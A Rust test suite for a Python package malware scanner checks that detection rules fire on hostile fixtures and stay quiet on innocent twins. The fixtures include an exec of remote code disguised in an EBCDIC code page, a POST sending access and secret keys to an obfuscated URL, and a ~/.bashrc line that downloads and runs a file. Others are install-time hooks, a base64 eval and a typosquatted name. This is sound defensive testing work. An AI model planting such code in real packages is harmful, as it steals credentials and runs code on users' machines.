//! Where Python packages hide what they do, each as an inert text of our own beside an innocent twin.

use crate::common::{found, innocent, scan_one, write};
use doorward_protocol::{PackageReport, Severity};

const METADATA: &str = "Metadata-Version: 2.1\nName: made-up\nVersion: 1.2.0\nSummary: helps\nHome-page: https://files.invalid/made-up\n";
const SETUP: (&str, &str) = ("setup.py", "from setuptools import setup\nsetup(name='made-up')\n");

fn package(files: &[(&str, &str)]) -> PackageReport {
    let folder = tempfile::tempdir().expect("a folder");
    write(folder.path(), &[("PKG-INFO", METADATA), SETUP]);
    write(folder.path(), files);
    scan_one(folder.path())
}

fn module(source: &str) -> PackageReport {
    package(&[("made_up/__init__.py", source)])
}

#[test]
fn a_code_page_of_mainframes_hides_nothing() {
    // exec(requests.get('https://files.invalid/x').text), in code page 1026.
    let hidden = r"b'\x85\xa7\x85\x83M\x99\x85\x98\xa4\x85\xa2\xa3\xa2K\x87\x85\xa3M}\x88\xa3\xa3\x97\xa2zaa\x86\x89\x93\x85\xa2K\x89\x95\xa5\x81\x93\x89\x84a\xa7}]K\xa3\x85\xa7\xa3]'";
    let loads = format!(
        "import builtins, requests\nf = getattr(builtins, b'\\x85\\xa5\\x81\\x93'.decode('cp1026'))\nf({hidden}.decode('cp1026'))\n"
    );
    found(&module(&loads), "M-02");
    let greets = "def greet():\n    print(b'\\xc8\\x85\\x93\\x93\\x96'.decode('cp037'))\n";
    innocent(&module(greets));
}

#[test]
fn a_statement_far_off_the_screen_is_found_whatever_it_calls() {
    let far = |rest: &str| module(&format!("WIDTH = 3{}{rest}\n", " ".repeat(220)));
    found(&far(";f = print; f('made up')"), "O-08");
    innocent(&far("# the width (of a line)"));
    innocent(&far(";"));
}

#[test]
fn a_request_that_is_written_before_it_is_opened_tells_where_it_goes() {
    // https://files.invalid/in, each letter three further and back to front.
    let source = "import os\nfrom urllib import request\ndef client(access_key, secret_key):\n    \
        word = 'ql2glodyql1vholi22=vswwk'\n    \
        place = os.environ.get('MADE_UP', ''.join(chr(ord(c) - 3) for c in word[::-1]))\n    \
        asked = request.Request(url=place, method='POST', data={'day': access_key, 'month': secret_key})\n    \
        try:\n        request.urlopen(asked)\n    except Exception:\n        pass\n";
    found(&module(source), "O-13");
    innocent(&module(&source.replace(
        "os.environ.get('MADE_UP', ''.join(chr(ord(c) - 3) for c in word[::-1]))",
        "'https://files.invalid/in'",
    )));
}

#[test]
fn code_in_base64_is_in_disguise_however_short_it_is() {
    // threading.active_count() < 100
    let run = "import base64, threading\nif __name__ == '__main__':\n    \
        while eval(base64.b64decode('dGhyZWFkaW5nLmFjdGl2ZV9jb3VudCgpIDwgMTAw')):\n        print('more')\n";
    found(&module(run), "M-01");
    innocent(&module(&run.replace("eval(", "print(")));
}

#[test]
fn a_program_kept_in_base64_and_written_to_a_file_is_told() {
    // import os, and a function that reads a file.
    let text = "aW1wb3J0IG9zCmZyb20gbWF0aCBpbXBvcnQgZmxvb3IKCmRlZiBsb2FkKHBhdGgpOgogICAgd2l0aCBvcGVuKHBhdGgpIGFzIGxpbmVzOgogICAgICAgIHJldHVybiBbZmxvb3IoZmxvYXQobGluZSkpIGZvciBsaW5lIGluIGxpbmVzXQo=";
    let carrier = |text: &str| {
        format!(
            "import base64\nDATA = '{text}'\ndef save(path='words.py'):\n    \
             with open(path, 'w') as file:\n        file.write(base64.b64decode(DATA).decode('utf-8'))\n"
        )
    };
    found(&module(&carrier(text)), "O-04");
    // Words, a line each.
    innocent(&module(&carrier("YXBwbGUKYmFuYW5hCmNoZXJyeQpkYXRlCmVsZGVyYmVycnkKZmlnCmdyYXBlCg==")));
}

#[test]
fn what_a_setup_script_loads_by_its_path_runs_on_installation() {
    let load = |deed: &str| {
        let setup = format!(
            "import importlib.util, os\nfrom setuptools import setup\n\
             path = os.path.join(os.path.dirname(__file__), 'made_up', '_after.py')\n\
             spec = importlib.util.spec_from_file_location('made_up._after', path)\n\
             after = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(after)\n{deed}\nsetup(name='made-up')\n"
        );
        let after = "import threading, uuid, webbrowser\ndef run():\n    def look():\n        \
            webbrowser.open_new_tab(f'https://abc.oast.fun/?id={uuid.uuid4()}')\n    \
            one = threading.Thread(target=look)\n    one.start()\n    one.join()\n";
        package(&[("setup.py", &setup), ("made_up/__init__.py", "VALUE = 1\n"), ("made_up/_after.py", after)])
    };
    let gravest = |report: &PackageReport| {
        let told = report.findings.iter().filter(|finding| finding.rule == "I-54");
        told.map(|finding| finding.severity).max()
    };
    assert_eq!(gravest(&load("after.run()")), Some(Severity::Critical));
    assert!(gravest(&load("")) < Some(Severity::High), "what nobody calls only waits");
}

#[test]
fn a_hook_beside_the_setup_script_runs_on_installation() {
    let hook = |name: &str, deed: &str| {
        let source = format!("import os\ndef {name}():\n    os.system('{deed}')\n");
        package(&[
            (&format!("{name}.py"), &source),
            ("made_up/__init__.py", "def one(text):\n    return text.title()\n"),
        ])
    };
    found(&hook("post_install", "powershell.exe Start-Process -FilePath putty.exe"), "I-53");
    innocent(&hook("colours", "color 0a"));
}

#[test]
fn a_command_for_a_shells_start_that_fetches_and_runs_is_grave() {
    let keep = |line: &str| {
        module(&format!(
            "import os\ndef keep():\n    path = os.path.expanduser('~/.bashrc')\n    \
             with open(path, 'a') as file:\n        file.write('{line}')\n"
        ))
    };
    found(&keep("wget https://files.invalid/s/a -O /tmp/proc && chmod +x /tmp/proc && /tmp/proc &"), "P-04");
    innocent(&keep("export MADE_UP=1"));
}

#[test]
fn a_tutorials_first_page_under_a_name_like_anothers_takes_that_name() {
    let toy = "\"\"\"\nmade_up - A useful package\n\"\"\"\ndef hello():\n    \"\"\"Greets\n    whoever asks\"\"\"\n    \
        return \"Hello!\"\ndef add(a, b):\n    return a + b\ndef about():\n    return {\n        \"name\": \"made_up\",\n    }\n";
    let bare = |name: &str, source: &str| {
        let folder = tempfile::tempdir().expect("a folder");
        let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.2.0\n");
        write(folder.path(), &[("PKG-INFO", &metadata), SETUP, ("made_up/__init__.py", source)]);
        scan_one(folder.path())
    };
    found(&bare("reqeusts", toy), "I-55");
    innocent(&bare("made-up", toy));
    innocent(&bare("reqeusts", "import math\ndef area(radius):\n    return math.pi * math.pow(radius, 2)\n"));
}
